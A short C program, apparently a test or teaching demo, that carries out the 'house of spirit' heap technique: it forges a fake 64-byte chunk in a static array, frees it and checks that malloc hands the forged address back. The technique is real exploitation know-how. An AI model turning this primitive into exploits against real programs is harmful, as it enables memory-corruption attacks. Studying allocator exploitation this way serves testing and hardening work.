/*
 * metadata: the program is tricked into freeing a structure that never was of the heap; it looks like a chunk and
 * joins the list of its size, and malloc hands it out ("the house of spirit").
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static _Alignas(16) Word fake[20];

int main(void) {
  settle(40);
  allocate(40);
  fake[1] = 0x41; /* a chunk of 64 bytes, */
  fake[9] = 0x41; /* and two behind it, in use */
  fake[17] = 0x41;
  release((void *)(fake + 2));
  Word *taken = allocate(56);
  return taken == fake + 2 ? GOAL_REACHED : 0;
}
